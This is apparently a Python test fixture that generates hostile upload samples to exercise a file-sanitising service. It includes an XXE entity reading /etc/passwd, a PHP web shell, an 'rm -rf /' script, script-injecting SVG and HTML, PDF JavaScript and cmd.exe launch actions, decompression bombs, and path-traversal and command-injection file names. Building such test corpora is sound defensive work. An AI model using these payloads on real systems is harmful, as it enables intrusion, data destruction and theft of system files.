"""The corpus: strangers, liars, bombs, tell-tales, broken ones, tricks of PDF."""

import gzip
import zlib
from collections.abc import Callable
from functools import partial
from pathlib import Path

from tests.tenants.feed.hostile import PLACE, TRAP, Hostile
from tests.tenants.feed.hostile import documents as d
from tests.tenants.feed.hostile import pictures as p

HEIC = Path(__file__).parents[1].joinpath("turned.heic").read_bytes()  # 48 x 32, turned, with GPS in its EXIF
HTML = b"<!DOCTYPE html><html><body><script>alert('%b')</script></body></html>" % TRAP
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
LAUGHS = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><svg>&b;</svg>'
OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg>&x;</svg>'
PHP = b"<?php system($_GET['c']); ?>" + TRAP
SCRIPT = b"<</S/JavaScript/JS(app.alert\\(1\\))>>"
ENCRYPTED = b"/ID[<00><00>]/Encrypt<</Filter/Standard/V 1/R 2/P -4/O<%b>/U<%b>>>" % (b"11" * 32, b"22" * 32)
EMBEDDED = d.stream(b"/Type/EmbeddedFile", b"MZ" + TRAP)
ADOBE = b"http://ns.adobe.com/xap/1.0/\0" + p.XMP
WHOLE = {
    "jpeg": p.drawn,
    "png": partial(p.drawn, "PNG"),
    "gif": partial(p.drawn, "GIF"),
    "webp": partial(p.drawn, "WEBP"),
    "heic": lambda: HEIC,
    "pdf": partial(d.pdf, b"", b"/Contents 4 0 R", d.flate(b"0 0 1 rg 0 0 300 400 re f " * 9)),
}


def _of(content: bytes) -> Callable[[], bytes]:
    return lambda: content


STRANGERS = [
    Hostile("svg with a script", _of(SVG), ("kind",), "photo.svg", "image/svg+xml"),
    Hostile("svg that laughs", _of(LAUGHS), ("kind",), "photo.svg", "image/svg+xml"),
    Hostile("svg that reads files", _of(OUTSIDE), ("kind",), "photo.svg", "image/svg+xml"),
    Hostile("svg called a photo", _of(b"\n\n" + SVG), ("kind",)),
    Hostile("svg behind a comment", _of(b"<!-- " + b"x" * 3000 + b" -->" + SVG), ("kind",)),
    Hostile("compressed svg", lambda: gzip.compress(SVG), ("kind",), "photo.svgz"),
    Hostile("html called a photo", _of(HTML), ("kind",)),
    Hostile("html called a pdf", _of(HTML), ("kind",), "paper.pdf", "application/pdf"),
    Hostile("html in utf-16", _of(HTML.decode().encode("utf-16")), ("kind",)),
    Hostile("xml", _of(b'<?xml version="1.0"?><a/>'), ("kind",)),
    Hostile(
        "mime parts", _of(b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=x\r\n\r\n--x\r\n"), ("kind",)
    ),
    Hostile("php", _of(PHP), ("kind",)),
    Hostile("shell", _of(b"#!/bin/sh\nrm -rf /\n"), ("kind",)),
    Hostile("windows program", _of(b"MZ\x90\0\3" + b"\0" * 600), ("kind",)),
    Hostile("linux program", _of(b"\x7fELF\2\1\1" + b"\0" * 600), ("kind",)),
    Hostile("java class", _of(b"\xca\xfe\xba\xbe\0\0\0\x34"), ("kind",)),
    Hostile("zip", partial(d.zipped, "a.jpg"), ("kind",)),
    Hostile("word", partial(d.zipped, "[Content_Types].xml", "word/vbaProject.bin"), ("kind",), "当番表.docm"),
    Hostile("old excel", _of(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600), ("kind",)),
    Hostile("postscript", _of(b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file"), ("kind",), "paper.pdf"),
    Hostile("bitmap", partial(p.drawn, "BMP"), ("kind",)),
    Hostile("tiff", partial(p.drawn, "TIFF"), ("kind",)),
    Hostile("icon", partial(p.drawn, "ICO"), ("kind",)),
    Hostile("avif", partial(p.drawn, "AVIF"), ("kind",)),
    Hostile("film", _of(b"\0\0\0\x18ftypisom" + b"\0" * 600), ("kind",)),
    Hostile("nothing at all", _of(b""), ("empty",)),
    Hostile("one byte", _of(b"\xff"), ("kind",)),
    Hostile("zeros", _of(b"\0" * 4096), ("kind",)),
    Hostile("too many bytes", _of(b"\xff\xd8\xff" + b"\0" * (20 * 1024 * 1024)), ("size",)),
]
LIARS = [
    Hostile("html that begins as jpeg", _of(b"\xff\xd8\xff" + HTML), ("damaged",)),
    Hostile("html that begins as png", _of(b"\x89PNG\r\n\x1a\n" + HTML), ("damaged",)),
    Hostile("html that begins as gif", _of(b"GIF89a" + HTML), ("damaged",)),
    Hostile("html that begins as webp", _of(b"RIFF\xff\0\0\0WEBP" + HTML), ("damaged",)),
    Hostile("html that begins as heic", _of(b"\0\0\0\x18ftypheic" + HTML), ("damaged",)),
    Hostile("html that begins as pdf", _of(b"%PDF-1.7\n" + HTML), ("damaged",)),
    Hostile("script that is a gif", _of(b"GIF89a=1;alert('%b');" % TRAP), ("damaged",), "x.js", "text/javascript"),
    Hostile("gif with a jar", lambda: p.drawn("GIF") + d.zipped("Evil.class")),
    Hostile("jpeg with a zip", lambda: p.jpeg(behind=d.zipped("evil.js"))),
    Hostile("jpeg with php behind", lambda: p.jpeg(behind=PHP), name="photo.php", content_type="text/x-php"),
    Hostile("jpeg with php as a note", lambda: p.jpeg(p.segment(0xFE, PHP))),
    Hostile("png with a script behind", lambda: p.png() + HTML),
    Hostile("png with php among its bytes", lambda: p.png(8, 8, 8, 2, p.chunk(b"PLTE", PHP + b"\0" * (-len(PHP) % 3)))),
    Hostile("webp with html behind", lambda: p.drawn("WEBP") + HTML),
    Hostile("webp with html as a chunk", lambda: p.webp(60, 40, (b"HTML", HTML))),
    Hostile("heic with html behind", _of(HEIC + HTML)),
    Hostile("pdf with a zip behind", lambda: d.pdf() + d.zipped("evil.js"), name="paper.pdf"),
    Hostile("pdf with html behind", lambda: d.pdf() + HTML, name="paper.html", content_type="text/html"),
    Hostile("pdf behind something else", lambda: b"MZ\x90\0" + d.pdf(), ("kind",), "paper.pdf"),
    Hostile("pdf in a jpeg", lambda: p.jpeg(p.segment(0xFE, d.pdf()), behind=TRAP), name="paper.pdf"),
    Hostile("jpeg called a program", p.drawn, name="evil.exe", content_type="application/x-msdownload"),
    Hostile("png called html", partial(p.drawn, "PNG"), name="evil.html", content_type="text/html"),
    Hostile("pdf called a photo", d.pdf),
    Hostile("photo called a pdf", p.drawn, name="paper.pdf", content_type="application/pdf"),
]
BOMBS = [
    Hostile("png of 1.2 GiB", partial(p.png, 20_000, 20_000, 8, 2), ("pixels",)),
    Hostile("png just small enough", partial(p.png, 6_300, 6_300, 16, 6), ("", "heavy")),
    Hostile("png one pixel wide", partial(p.png, 1, 39_000_000, 1, 0, rows=b""), ("damaged", "pixels", "heavy")),
    Hostile("png of four billion", partial(p.png, 2**31 - 1, 2**31 - 1, 8, 2, rows=b"x"), ("pixels", "damaged")),
    Hostile("jpeg of 65535 x 65535", partial(p.sized_jpeg, 65_535, 65_535), ("pixels",)),
    Hostile("jpeg that says 6000 x 6000", partial(p.sized_jpeg, 6_000, 6_000), ("", "damaged")),
    Hostile("gif of 65535 x 65535", partial(p.gif, 65_535, 65_535), ("pixels",)),
    Hostile("webp of 16384 x 16384", partial(p.webp, 16_384, 16_384), ("pixels", "damaged")),
    Hostile("heic of 60000 x 60000", partial(p.heic_of, 60_000, HEIC), ("pixels", "damaged")),
    Hostile("webp that eats memory", lambda: p.drawn("WEBP", (16_383, 2_440), "RGBA", quality=1, method=0), ("heavy",)),
    Hostile("jpeg of 3,000 scans", partial(p.scans, 3_000), ("heavy", "damaged", "")),
    Hostile("gif of 3,000 frames", partial(p.frames, "GIF", 3_000)),
    Hostile("webp of 400 frames", partial(p.frames, "WEBP", 400)),
    Hostile("apng of 400 frames", partial(p.frames, "PNG", 400)),
    Hostile(
        "png with a note of 200 MB", lambda: p.png(8, 8, 8, 2, p.chunk(b"zTXt", b"x\0\0" + _z(200))), ("", "damaged")
    ),
    Hostile(
        "png with a profile of 200 MB", lambda: p.png(8, 8, 8, 2, p.chunk(b"iCCP", b"x\0\0" + _z(200))), ("", "damaged")
    ),
    Hostile("jpeg with a huge broken profile", lambda: p.drawn("JPEG", icc_profile=TRAP * 90_000)),
    Hostile("pdf stream of 2 GB", lambda: d.pdf(b"", b"/Contents 4 0 R", d.bomb(2_000)), ("heavy", "damaged")),
    Hostile(
        "pdf stream in four filters",
        lambda: d.pdf(b"", b"/Contents 4 0 R", d.flate(b" " * 200_000_000, 4)),
        ("heavy", "damaged", ""),
    ),
    Hostile(
        "pdf with a picture of 10 gigapixels",
        lambda: d.with_picture(_z(100), b"/FlateDecode", 100_000, 100_000),
        ("heavy", "damaged", ""),
    ),
    Hostile(
        "pdf with a jpeg of 65535 x 65535",
        lambda: d.with_picture(p.sized_jpeg(65_535, 65_535), b"/DCTDecode", 65_535, 65_535),
        ("heavy", "damaged", ""),
    ),
    Hostile("pdf that laughs", d.laughs, ("heavy",)),
    Hostile("pdf that draws itself", d.itself, ("", "damaged", "heavy")),
    Hostile("pdf of 100,000 brackets", partial(d.deep, 100_000), ("", "damaged", "heavy")),
    Hostile("pdf of 10,000 pages", partial(d.many_pages, 10_000), ("pages",)),
    Hostile("pdf that says one page 10,000 times", partial(d.pdf, pages=10_000), ("pages",)),
    Hostile("pdf of a page as large as a town", lambda: _box(b"0 0 9999999 9999999"), ("", "damaged", "heavy")),
    Hostile("pdf of a page without size", lambda: _box(b"0 0 0 0"), ("", "damaged", "heavy")),
    Hostile("pdf of a page turned inside out", lambda: _box(b"300 400 0 0")),
    Hostile("pdf whose function never ends", d.shaded, ("heavy",)),
]


def _z(megabytes: int) -> bytes:
    squeeze, block = zlib.compressobj(9), b"A" * 1_000_000
    return b"".join(squeeze.compress(block) for _ in range(megabytes)) + squeeze.flush()


def _box(box: bytes) -> bytes:
    leaf = b"<</Type/Page/Parent 2 0 R/MediaBox[%b]>>" % box
    return d.objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 1/Kids[3 0 R]>>", leaf)


TELLTALES = [
    Hostile("jpeg with gps", lambda: p.drawn(exif=p.exif())),
    Hostile("jpeg with xmp", lambda: p.jpeg(p.segment(0xE1, ADOBE))),
    Hostile("jpeg with iptc", lambda: p.jpeg(p.segment(0xED, b"Photoshop 3.0\0" + PLACE.encode()))),
    Hostile("jpeg with a comment", lambda: p.drawn(comment=PLACE.encode())),
    Hostile("jpeg with a second picture", lambda: p.jpeg(behind=p.drawn(exif=p.exif()))),
    Hostile("jpeg with broken exif", lambda: p.jpeg(p.segment(0xE1, b"Exif\0\0MM\0*\xff\xff\xff\xff" + TRAP))),
    Hostile(
        "jpeg with exif in a ring", lambda: p.jpeg(p.segment(0xE1, b"Exif\0\0MM\0*\0\0\0\x08\0\0\0\0\0\x08" + TRAP))
    ),
    Hostile("png with gps", lambda: p.drawn("PNG", exif=p.exif())),
    *[Hostile(f"png with {kind}", partial(p.noted, kind)) for kind in ("tEXt", "zTXt", "iTXt")],
    Hostile("webp with gps", lambda: p.drawn("WEBP", exif=p.exif())),
    Hostile("webp with xmp", lambda: p.drawn("WEBP", xmp=p.XMP)),
    Hostile("gif with a comment", lambda: p.drawn("GIF", comment=PLACE.encode())),
    Hostile("heic with gps", _of(HEIC)),
    Hostile(
        "avif called heic", lambda: p.drawn("AVIF", exif=p.exif()).replace(b"ftypavif", b"ftypmif1"), ("", "damaged")
    ),
    *[
        Hostile(f"{form} turned {turn}", partial(p.turned, form, turn))
        for form in ("JPEG", "PNG", "WEBP")
        for turn in range(1, 9)
    ],
    Hostile("jpeg with a turn there is not", lambda: p.turned("JPEG", 99)),
    Hostile("cmyk", lambda: p.drawn(mode="CMYK", exif=p.exif())),
    Hostile("deep grey", partial(p.png, 40, 40, 16, 0)),
    Hostile("deep colours", partial(p.png, 40, 40, 16, 6)),
    Hostile(
        "pdf with an author",
        lambda: d.pdf(b"", b"", b"<</Author(%b)/Title(%b)>>" % (TRAP, TRAP), trailer=b"/Info 4 0 R"),
    ),
    Hostile(
        "pdf with xmp",
        lambda: d.pdf(b"/Metadata 4 0 R", b"/Metadata 4 0 R", d.flate(p.XMP, entries=b"/Type/Metadata/Subtype/XML")),
    ),
    Hostile(
        "pdf with private notes",
        lambda: d.pdf(b"/PieceInfo 4 0 R", b"/PieceInfo 4 0 R", b"<</X<</Private(%b)>>>>" % TRAP),
    ),
    Hostile(
        "pdf with a small picture of a page", lambda: d.pdf(b"", b"/Thumb 4 0 R", d.stream(b"/Width 1/Height 1", TRAP))
    ),
    Hostile("pdf with a photo", lambda: d.with_picture(d.camera(), b"/DCTDecode")),
    Hostile(
        "pdf with a photo in two filters",
        lambda: d.with_picture(zlib.compress(d.camera()), b"[/FlateDecode/DCTDecode]"),
    ),
    Hostile(
        "pdf with a photo in digits",
        lambda: d.with_picture(d.camera().hex().encode() + b">", b"[/ASCIIHexDecode/DCTDecode]"),
    ),
    Hostile("pdf with a jpeg 2000", lambda: d.with_picture(d.camera("JPEG2000"), b"/JPXDecode")),
    Hostile("pdf with a photo in its drawing", d.inline),
    Hostile(
        "pdf with a photo called something else",
        lambda: d.with_picture(d.camera(), b"[/DCTDecode/FlateDecode]"),
        ("damaged", ""),
    ),
]
BROKEN = [
    *[
        Hostile(
            f"{form} cut at {percent} %",
            partial(lambda whole, part: whole()[: len(whole()) * part // 100], whole, percent),
            ("damaged", "kind", ""),
        )
        for form, whole in WHOLE.items()
        for percent in (10, 50, 95)
    ],
    *[
        Hostile(
            f"{form} with every ninth byte turned",
            partial(lambda whole: _turned(whole()), whole),
            ("damaged", "heavy", "pixels", "encrypted", "pages", ""),
        )
        for form, whole in WHOLE.items()
    ],
    Hostile("png of 0 x 0", partial(p.png, 0, 0, rows=b""), ("damaged",)),
    Hostile("jpeg of 0 x 0", partial(p.sized_jpeg, 0, 0), ("damaged",)),
    Hostile("gif of 0 x 0", partial(p.gif, 0, 0), ("damaged",)),
    Hostile("webp without a picture", lambda: p.riff([(b"VP8 ", b"\x30\1\0\x9d\1\x2a\0\0\0\0")]), ("damaged",)),
    Hostile("heic of 0 x 0", partial(p.heic_of, 0, HEIC), ("damaged", "")),
    Hostile("pdf without pages", partial(d.pdf, pages=0), ("damaged",)),
    Hostile("png with a wrong sum", lambda: p.png(8, 8, 8, 2, p.chunk(b"tEXt", TRAP, checksum=7)), ("damaged", "")),
    Hostile("png with an endless chunk", lambda: p.png()[:33] + b"\xff\xff\xff\xff" + b"tEXt" + TRAP, ("damaged",)),
    Hostile("gif with bits for nobody", lambda: p.gif(8, 8)[:-3] + b"\xff" * 99, ("damaged", "")),
    Hostile("pdf that leads to itself", lambda: d.pdf(trailer=b"/Prev 9"), ("damaged", "")),
    Hostile(
        "pdf whose tree is a ring",
        lambda: d.objects(b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 9/Kids[2 0 R 2 0 R]>>"),
        ("damaged", "", "heavy"),
    ),
]


def _turned(whole: bytes) -> bytes:
    return bytes(byte ^ 0x55 if place > 60 and place % 9 == 0 else byte for place, byte in enumerate(whole))


DOING = [
    ("at once", lambda: d.pdf(b"/OpenAction" + SCRIPT), ""),
    ("by name", lambda: d.pdf(b"/Names<</JavaScript<</Names[(a)%b]>>>>" % SCRIPT), "active"),
    ("on a page", lambda: d.pdf(b"", b"/AA<</O%b>>" % SCRIPT), "active"),
    ("in other letters", lambda: d.pdf(b"", b"/AA<</O<</#53/JavaScri#70t/JS(x)>>>>"), "active"),
    ("in a packed object", lambda: d.hidden_in_objects(SCRIPT), "active"),
    ("as a link", lambda: d.action(b"/S/JavaScript/JS(x)"), ""),
    ("as an address", lambda: d.action(b"/S/URI/URI(javascript:alert\\(1\\))"), ""),
    ("as an address with blanks", lambda: d.action(b"/S/URI/URI( java\nscript:alert\\(1\\))"), ""),
    ("as data", lambda: d.action(b"/S/URI/URI(data:text/html,%b)" % TRAP), ""),
    ("as a file", lambda: d.action(b"/S/URI/URI(file:///etc/passwd)"), ""),
    ("after a jump", lambda: d.action(b"/S/GoTo/D[3 0 R/Fit]/Next" + SCRIPT), "active"),
    ("by starting a program", lambda: d.action(b"/S/Launch/F(cmd.exe)"), "active"),
    ("by starting it at once", lambda: d.pdf(b"/OpenAction<</S/Launch/Win<</F(cmd.exe)>>>>"), ""),
    ("by opening another", lambda: d.action(b"/S/GoToE/T<</R/C>>/D[0/Fit]"), ""),
    ("by leading to a share", lambda: d.action(b"/S/GoToR/F(\\\\\\\\host\\\\%b)/D[0/Fit]" % TRAP), ""),
    ("by sending a form", lambda: d.action(b"/S/SubmitForm/F(http://example.jp/%b)" % TRAP), ""),
    ("by reading a form", lambda: d.action(b"/S/ImportData/F(x.fdf)"), ""),
    ("as a hidden note", lambda: d.noted(b"/Subtype/Link/F 2/A<</S/URI/URI(javascript:x)>>"), ""),
    ("in a field", lambda: d.noted(b"/Subtype/Widget/FT/Btn/T(b)/F 2/A" + SCRIPT), ""),
    ("in a form of its own", lambda: d.pdf(b"/AcroForm<</Fields[]/XFA 4 0 R>>", b"", d.stream(b"", TRAP)), ""),
    ("as a film", lambda: d.noted(b"/Subtype/Movie/Movie<</F(x.mpg)>>"), ""),
    ("as a rich film", lambda: d.noted(b"/Subtype/RichMedia/RichMediaContent<<>>"), ""),
    ("as a model", lambda: d.noted(b"/Subtype/3D/3DD 4 0 R", d.stream(b"/Type/3D/Subtype/U3D", TRAP)), ""),
    ("as a sound", lambda: d.noted(b"/Subtype/Sound/Sound 4 0 R", d.stream(b"/R 8000", TRAP)), ""),
    ("as a screen", lambda: d.noted(b"/Subtype/Screen/A<</S/Rendition/OP 0>>"), ""),
]
CARRYING = [
    (
        "by name",
        lambda: d.pdf(
            b"/Names<</EmbeddedFiles<</Names[(x)<</Type/Filespec/F(x.exe)/EF<</F 4 0 R>>>>]>>>>", b"", EMBEDDED
        ),
        "attachments",
    ),
    ("beside a page", lambda: d.pdf(b"", b"/AF[<</Type/Filespec/F(x)/EF<</F 4 0 R>>>>]", EMBEDDED), "attachments"),
    (
        "as a pin",
        lambda: d.noted(b"/Subtype/FileAttachment/FS<</Type/Filespec/F(x.exe)/EF<</F 4 0 R>>>>", EMBEDDED),
        "",
    ),
    (
        "in a folder",
        lambda: d.pdf(
            b"/Collection<</View/T>>/Names<</EmbeddedFiles<</Names[(x)<</EF<</F 4 0 R>>>>]>>>>", b"", EMBEDDED
        ),
        "attachments",
    ),
]
DOCUMENTS = [
    *[Hostile(f"pdf that acts {how}", draw, tuple({why or "active", why}), "paper.pdf") for how, draw, why in DOING],
    *[
        Hostile(f"pdf with a file {how}", draw, tuple({why or "attachments", why}), "paper.pdf")
        for how, draw, why in CARRYING
    ],
    Hostile("pdf with a password", lambda: d.pdf(trailer=ENCRYPTED), ("encrypted",), "paper.pdf"),
]
NAMES = [
    "../../etc/passwd",
    "..\\..\\windows\\system.ini",
    "/etc/passwd",
    "C:\\autoexec.bat",
    "..",
    ".",
    "...",
    "~/.bashrc",
    ".htaccess",
    "お知らせ\r\nSet-Cookie: x=1.jpg",
    "a\0.jpg",
    "まつり\u202egpj.exe",
    "\u200b\u2066.jpg",
    "長" * 300 + ".jpg",
    "a" * 300,
    "𠮷" * 300,
    "🎆👨‍👩‍👧.jpg",
    "CON",
    "nul.jpg",
    "COM1.tar.gz",
    "aux.",
    "<img src=x onerror=alert(1)>.jpg",
    '"><script>alert(1)</script>.png',
    "a;b|c&d`e`$(f).jpg",
    "%2e%2e%2fx.jpg",
    " .jpg ",
    "a.jpg.exe",
    "a.php\x00.jpg",
    "が\u3099.jpg",
    "\ud800.jpg",
]
CORPUS = [*STRANGERS, *LIARS, *BOMBS, *TELLTALES, *BROKEN, *DOCUMENTS]
